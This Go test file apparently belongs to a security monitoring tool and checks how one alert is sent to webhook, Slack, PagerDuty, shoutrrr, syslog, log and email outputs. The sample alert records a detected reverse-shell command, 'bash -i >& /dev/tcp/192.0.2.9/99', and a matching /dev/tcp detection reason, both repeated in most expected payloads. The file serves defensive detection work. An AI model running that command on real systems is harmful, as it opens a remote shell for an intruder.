package outputs

import (
	"crypto/hmac"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"muster/server/database"
	"muster/server/database/dbtest"
	"muster/server/outputs/smtptest"
)

// deliver tells an alerter of these settings of one alert.
func deliver(r *rig, kind string, settings any) {
	r.t.Helper()
	r.add("trial", kind, settings)
	row, err := findReceiver(r.t.Context(), r.db, "trial")
	r.ok(err)
	to, err := r.alerters.open(row)
	r.ok(err)
	r.ok(to.Notify(r.t.Context(), r.notice(r.raise("1"))))
}

func sqliteRig(t *testing.T) *rig {
	t.Helper()
	return newRig(t, dbtest.Open(t, database.SQLite), MailOptions{})
}

// jsonOf reads a JSON object.
func jsonOf(t *testing.T, body []byte) map[string]any {
	t.Helper()
	var object map[string]any
	if err := json.Unmarshal(body, &object); err != nil {
		t.Fatalf("%v: %s", err, body)
	}
	return object
}

func TestWebhook(t *testing.T) {
	r, server := sqliteRig(t), startReceiver(t, nil)
	deliver(r, "webhook", map[string]any{"url": server.URL + "/in?token=abc", "secret": "a signing key of ours", "authorization": "Bearer xyz"})
	got := server.requests()[0]
	mac := hmac.New(sha256.New, []byte("a signing key of ours"))
	mac.Write([]byte(got.header.Get("X-Muster-Timestamp") + "." + string(got.body)))
	if want := "sha256=" + hex.EncodeToString(mac.Sum(nil)); got.header.Get("X-Muster-Signature") != want || got.header.Get("X-Muster-Timestamp") != strconv.FormatInt(noon.Unix(), 10) {
		t.Errorf("%v, not %s", got.header, want)
	}
	if got.header.Get("X-Muster-Delivery") != "alert-1-1" || got.header.Get("Authorization") != "Bearer xyz" || got.path != "/in?token=abc" {
		t.Errorf("%+v", got)
	}
	want := map[string]any{
		"event": "alert", "test": false, "sent_at": "2026-03-01T12:00:00Z", "link": "https://console.example.com/alerts/1",
		"rule": map[string]any{"id": 1.0, "name": "Reverse shell", "description": "A shell of $username was started by $parent"},
		"host": map[string]any{
			"id": 1.0, "host_identifier": "11111111-AAAA-4AAA-8AAA-111111111111", "display_name": "web-1", "platform": "linux", "os": "Ubuntu",
			"last_ip": "192.0.2.10", "hardware_model": "Standard PC", "tags": []any{"lab"},
		},
		"alert": map[string]any{
			"id": 1.0, "event_id": 1.0, "name": "Reverse shell", "source": "rule", "severity": "CRITICAL", "query_name": "process_events", "action": "added",
			"columns":     map[string]any{"pid": "4711", "cmdline": "bash -i >& /dev/tcp/192.0.2.9/99\n<b>", "username": "root", "severity": "NONE", "uid": "0"},
			"why":         []any{"cmdline contains /dev/tcp (it is bash -i >& /dev/tcp/192.0.2.9/99)"},
			"source_data": map[string]any{}, "technique_ids": []any{"T1059.004"}, "tactics": []any{"execution"}, "retro": false,
			"seen_at": "2026-03-01T11:59:00Z", "created_at": "2026-03-01T12:00:00Z",
		},
	}
	if diff := cmp.Diff(want, jsonOf(t, got.body)); diff != "" {
		t.Error(diff)
	}
}

func TestSlack(t *testing.T) {
	r, server := sqliteRig(t), startReceiver(t, nil)
	deliver(r, "slack", map[string]any{"url": server.URL + "/services/T0/B0/token", "columns": true})
	got := jsonOf(t, server.requests()[0].body)
	attachment := got["attachments"].([]any)[0].(map[string]any)
	fields := map[string]any{}
	for _, f := range attachment["fields"].([]any) {
		fields[f.(map[string]any)["title"].(string)] = f.(map[string]any)["value"]
	}
	want := map[string]any{
		"Host": "web-1 (11111111-AAAA-4AAA-8AAA-111111111111), linux", "Severity": "CRITICAL", "Query": "process_events, added", "Seen": "2026-03-01 11:59:00 UTC",
		"Why it matched": "cmdline contains /dev/tcp (it is bash -i &gt;&amp; /dev/tcp/192.0.2.9/99)",
		"cmdline":        "bash -i &gt;&amp; /dev/tcp/192.0.2.9/99\n&lt;b&gt;", "pid": "4711", "severity": "NONE", "uid": "0", "username": "root",
	}
	if diff := cmp.Diff(want, fields); diff != "" {
		t.Error(diff)
	}
	if got["text"] != "CRITICAL: Reverse shell on web-1" || attachment["title_link"] != "https://console.example.com/alerts/1" || attachment["color"] != "#c0392b" || attachment["ts"] != float64(noon.Unix()-60) {
		t.Errorf("%v", got)
	}
}

func TestPagerDuty(t *testing.T) {
	r, server := sqliteRig(t), startReceiver(t, status(202, ""))
	key := strings.Repeat("k", 32)
	deliver(r, "pagerduty", map[string]any{"routing_key": key, "url": server.URL + "/v2/enqueue", "dedup_prefix": "site-a"})
	got := jsonOf(t, server.requests()[0].body)
	payload := got["payload"].(map[string]any)
	details := payload["custom_details"].(map[string]any)
	delete(got, "payload")
	delete(payload, "custom_details")
	if diff := cmp.Diff(map[string]any{
		"routing_key": key, "event_action": "trigger", "dedup_key": "site-a-alert-1", "client": "Muster", "client_url": "https://console.example.com/alerts/1",
	}, got); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff(map[string]any{
		"summary": "CRITICAL: Reverse shell on web-1", "source": "web-1", "severity": "critical", "timestamp": "2026-03-01T11:59:00Z",
		"component": "process_events", "group": "linux", "class": "rule",
	}, payload); diff != "" {
		t.Error(diff)
	}
	if details["alert"].(map[string]any)["name"] != "Reverse shell" {
		t.Errorf("%v", details)
	}
	r.ok(r.alerters.Test(t.Context(), "trial"))
	requests := server.requests()
	trigger, resolve := jsonOf(t, requests[1].body), jsonOf(t, requests[2].body)
	if len(requests) != 3 || trigger["event_action"] != "trigger" || resolve["event_action"] != "resolve" || trigger["dedup_key"] != resolve["dedup_key"] {
		t.Errorf("a sample is resolved at once: %v, %v", trigger, resolve)
	}
}

func TestShoutrrr(t *testing.T) {
	for sentence, c := range map[string]struct{ url, path string }{
		"Gotify":  {"gotify://HOST/Aabcdefghijklmn?disabletls=yes", "/message"},
		"ntfy":    {"ntfy://HOST/alerts?scheme=http", "/alerts"},
		"generic": {"generic://HOST/hook?disabletls=yes", "/hook"},
	} {
		t.Run(sentence, func(t *testing.T) {
			r := sqliteRig(t)
			server := startReceiver(t, func(w http.ResponseWriter, _ received) { _, _ = w.Write([]byte(`{"id":1}`)) })
			deliver(r, "shoutrrr", map[string]any{"url": strings.Replace(c.url, "HOST", strings.TrimPrefix(server.URL, "http://"), 1)})
			got := server.requests()[0]
			for _, want := range []string{"CRITICAL: Reverse shell on web-1", "https://console.example.com/alerts/1", "/dev/tcp"} {
				if !strings.Contains(string(got.body), want) {
					t.Errorf("%q is missing: %s", want, got.body)
				}
			}
			if !strings.HasPrefix(got.path, c.path) {
				t.Errorf("sent to %s", got.path)
			}
		})
	}
}

func TestRsyslog(t *testing.T) {
	certificate, _ := testCertificate(t)
	ca := string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: certificate.Certificate[0]}))
	for sentence, secure := range map[string]bool{"over TCP": false, "over TLS, with an authority of one's own": true} {
		t.Run(sentence, func(t *testing.T) {
			r := sqliteRig(t)
			settings := map[string]any{"service_key": "foobar"}
			var config *tls.Config
			if secure {
				config = &tls.Config{Certificates: []tls.Certificate{certificate}, MinVersion: tls.VersionTLS12}
				settings["tls"], settings["ca"] = true, ca
			}
			server := startSyslog(t, config)
			settings["address"] = server.address
			deliver(r, "rsyslog", settings)
			m := server.next(t)
			if *m.Priority != 16*8+2 || *m.Appname != "muster" || *m.MsgID != "alert" || !m.Timestamp.Equal(noon) {
				t.Errorf("%+v", m)
			}
			got := jsonOf(t, []byte(*m.Message))
			want := map[string]any{
				"event_type": "trigger", "service_key": "foobar", "incident_key": "muster-alert-1", "client": "Muster", "client_url": "https://console.example.com/alerts/1",
				"description":     "Reverse shell:A shell of root was started by $parent",
				"host_identifier": "11111111-AAAA-4AAA-8AAA-111111111111", "query_name": "process_events", "rule_name": "Reverse shell",
				"rule_description": "A shell of $username was started by $parent", "rule_status": "ACTIVE", "severity": "CRITICAL", "alert_type": "Rule",
				"created_at": "2026-03-01T12:00:00.000000", "action": "added", "platform": "linux", "is_active": true, "last_ip": "192.0.2.10",
				"osname": "Ubuntu", "macaddress": "", "computername": "web-1.example", "hardware_model": "Standard PC",
				"pid": "4711", "cmdline": "bash -i >& /dev/tcp/192.0.2.9/99\n<b>", "username": "root", "uid": "0", "column_severity": "NONE",
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestDebug(t *testing.T) {
	r := sqliteRig(t)
	deliver(r, "debug", map[string]any{"level": "error"})
	if got := r.log.String(); !strings.Contains(got, `level=ERROR msg=alert alert_id=1 name="Reverse shell" source=rule severity=CRITICAL host=web-1`) || strings.Contains(got, "/dev/tcp") {
		t.Error(got)
	}
}

func TestEmail(t *testing.T) {
	server := smtptest.Start(t, smtptest.Options{Username: "muster", Password: password})
	r := newRig(t, dbtest.Open(t, database.SQLite), MailOptions{Roots: server.Roots})
	_, _, err := r.mail.Save(t.Context(), settings(server))
	r.ok(err)
	deliver(r, "email", map[string]any{"recipients": []string{"night@example.com"}})
	got := server.Messages()
	if len(got) != 1 || !cmp.Equal(got[0].To, []string{"night@example.com"}) {
		t.Fatalf("%+v", got)
	}
	text := strings.ReplaceAll(strings.ReplaceAll(got[0].Data, "=\r\n", ""), "\r\n", "\n")
	for _, want := range []string{
		"Subject: [Muster] CRITICAL: Reverse shell on web-1\n", "Content-Type: text/plain; charset=UTF-8\n",
		"\nRule:        Reverse shell\n", "\nHost:        web-1 (11111111-AAAA-4AAA-8AAA-111111111111), linux\n", "\nTags:        lab\n",
		"\nSeen:        2026-03-01 11:59:00 UTC\n", "\nQuery:       process_events, added\n", "\nATT&CK:      T1059.004, execution\n",
		"\nWhy it matched:\n  cmdline contains /dev/tcp (it is bash -i >& /dev/tcp/192.0.2.9/99)\n",
		"\n  cmdline                  bash -i >& /dev/tcp/192.0.2.9/99 <b>\n", "\n  pid                      4711\n", "\nhttps://console.example.com/alerts/1\n",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is missing:\n%s", want, text)
		}
	}
}

func TestReasonsInWords(t *testing.T) {
	why := `[{"field":"path","operator":"matches_regex","value":"^/tmp/","actual":"/usr/bin/x","negated":true},
		{"field":"remote_address","operator":"is_indicator","value":"192.0.2.0/24","actual":"192.0.2.9"},
		{"field":"uid","operator":"equal","value":0,"actual":"0"}, {"unknown":"shape\n"}, 7]`
	want := []string{
		"path not matches regex ^/tmp/ (it is /usr/bin/x)", "remote_address is indicator 192.0.2.0/24 (it is 192.0.2.9)", "uid equal 0 (it is 0)",
		`{"unknown":"shape\n"}`, "7",
	}
	if diff := cmp.Diff(want, reasons(json.RawMessage(why))); diff != "" {
		t.Error(diff)
	}
	if got := reasons(json.RawMessage(`{"no":"list"}`)); got != nil {
		t.Error(got)
	}
}
